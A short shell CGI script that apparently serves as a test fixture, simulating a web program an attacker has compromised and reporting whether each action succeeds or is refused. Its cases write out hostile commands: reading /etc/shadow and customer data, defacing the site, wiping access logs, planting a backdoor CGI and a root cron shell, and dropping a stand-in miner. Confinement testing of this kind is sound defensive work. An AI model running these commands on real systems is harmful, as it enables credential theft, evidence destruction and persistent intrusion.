#!/bin/sh
# SPDX-License-Identifier: GPL-2.0
# The same program after a stranger has found a hole in it: runs what the
# stranger asks for and says what came of it.
printf 'Content-Type: text/plain\r\n\r\n'

answer() {
	text=$("$@" 2>&1 </dev/null) && echo "done: $(echo "$text" | head -n 1)" &&
		return
	echo "refused: $(echo "$text" | tail -n 1)"
}

drop_and_run() {
	cat /bin/true >/srv/www/data/miner &&
		chmod 755 /srv/www/data/miner &&
		/srv/www/data/miner
}

stop_server() {
	kill -0 "$(cat /srv/www/data/victim)"
}

case $QUERY_STRING in
shadow) answer cat /etc/shadow ;;
customers) answer cat /srv/private/customers.txt ;;
deface) answer sh -c 'echo owned >/srv/www/html/index.html' ;;
logs) answer rm /var/log/nginx/access.log ;;
empty) answer sh -c ': >/var/log/nginx/access.log' ;;
backdoor) answer sh -c 'echo >/srv/www/cgi-bin/back.cgi' ;;
database) answer curl -sS -m 5 http://127.0.0.1:5432/ ;;
miner) answer drop_and_run ;;
stop) answer stop_server ;;
cron) answer sh -c 'echo "* * * * * root sh" >/etc/cron.d/back' ;;
*) echo "refused: what is $QUERY_STRING" ;;
esac
